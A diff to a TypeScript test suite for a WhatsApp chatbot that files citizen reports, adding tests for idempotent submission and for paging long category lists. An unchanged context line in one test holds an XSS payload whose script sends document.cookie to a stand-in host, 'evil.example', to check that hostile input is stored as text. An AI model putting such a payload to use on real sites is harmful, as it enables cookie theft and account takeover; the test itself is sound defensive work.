@@ -10,6 +10,7 @@ import { after, before, describe, it } from 'node:test';
 import assert from 'node:assert/strict';
 import sharp from 'sharp';
 import { readFileSync } from 'node:fs';
+import { demoReference } from '../../demo/seed.js';
 import { eventually, JPEG, startGateway, TestClock, type TestGateway } from './helpers.js';
 import { startWhatsApp } from './notify-helpers.js';
 import { Citizen, WA_TOKEN, whatsappOptions } from './whatsapp-helpers.js';
@@ -318,6 +319,28 @@ describe('WhatsApp conversation: filing a report by chat', () => {
     assert.equal(n!.n, 3);
   });
 
+  it('the same "Kirim" handled twice (as when two leaders race) files one report: idempotency by the message id', async () => {
+    const c = chat();
+    await fillIn(c);
+    const summary = await g.gw.services.db.get<{ state_json: string }>('SELECT state_json FROM whatsapp_conversations WHERE wa_id = ?', [c.number]);
+    const kirim = c.tapMessage('Kirim');
+    await c.send(kirim);
+    const first = trackingIdIn((await c.next())[0]!.text)!;
+    // The other leader's view, inside its own transaction: the conversation still at its
+    // summary, the message not yet seen, the first filing not yet committed.
+    await g.gw.services.db.run('UPDATE whatsapp_conversations SET state_json = ? WHERE wa_id = ?', [summary!.state_json, c.number]);
+    await g.gw.services.db.run('DELETE FROM whatsapp_inbox WHERE message_id = ?', [kirim['id']]);
+    await g.gw.services.db.run('DELETE FROM whatsapp_reports WHERE tracking_id = ?', [first]);
+    await c.send(kirim);
+    const again = (await c.next())[0]!.text;
+    assert.equal(trackingIdIn(again), first, 'the submit replayed the first answer');
+    const n = await g.gw.services.db.get<{ n: number }>('SELECT COUNT(*) AS n FROM whatsapp_reports WHERE wa_id = ?', [c.number]);
+    assert.equal(n!.n, 1);
+    // The key is a keyed hash of the message id: the id in the inbox cannot open the stored answer.
+    const keys = await g.gw.services.db.all<{ key: string }>("SELECT key FROM idempotency WHERE site_key = 'whatsapp'");
+    assert.ok(keys.length >= 1 && keys.every((k) => !k.key.includes(String(kirim['id']))));
+  });
+
   it('hostile text is stored as text, exactly as typed', async () => {
     const c = chat();
     const hostile = '<img src=x onerror="alert(1)"><script>fetch("//evil.example/"+document.cookie)</script> Jalan rusak parah.';
@@ -357,6 +380,35 @@ describe('WhatsApp conversation: filing a report by chat', () => {
       assert.ok(said.length <= 3 * 2 + 1, `at most the budget's answers: ${said.length}`);
     } finally {
       await flood.close();
+    }
+  });
+});
+
+describe('WhatsApp conversation: a long list pages on with "Lainnya"', () => {
+  it('more than ten categories: nine and "Lainnya" per page, around to the first', async () => {
+    const wa = await startWhatsApp({ token: WA_TOKEN });
+    const reference = demoReference();
+    for (let i = 1; i <= 6; i++) reference.categories.push({ id: `cat-extra-${i}`, name: { id: `Tambahan ${i}`, en: `Extra ${i}` }, parentId: null });
+    const g = await startGateway({ reference, ...whatsappOptions(wa.url, { inbound: false }) });
+    try {
+      const c = new Citizen(() => g.url, wa);
+      await c.text('Halo');
+      await c.next(2);
+      await c.tap('Pengaduan');
+      const [first] = await c.next();
+      assert.equal(first!.choices.length, 10);
+      assert.equal(first!.choices[9]!.title, 'Lainnya');
+      await c.tap('Lainnya');
+      const [second] = await c.next();
+      assert.deepEqual(second!.choices.map((x) => x.title).slice(0, 7), ['Tambahan 1', 'Tambahan 2', 'Tambahan 3', 'Tambahan 4', 'Tambahan 5', 'Tambahan 6', 'Tidak tahu']);
+      assert.equal(second!.choices.at(-1)!.title, 'Lainnya');
+      await c.tap('Tambahan 5');
+      assert.match(await c.says(), /Di mana kejadiannya/);
+      await c.tap('Lainnya'); // the first page's "Lainnya": an old question now
+      assert.match(await c.says(2), /sudah tidak berlaku/);
+    } finally {
+      await g.close();
+      await wa.close();
     }
   });
 });
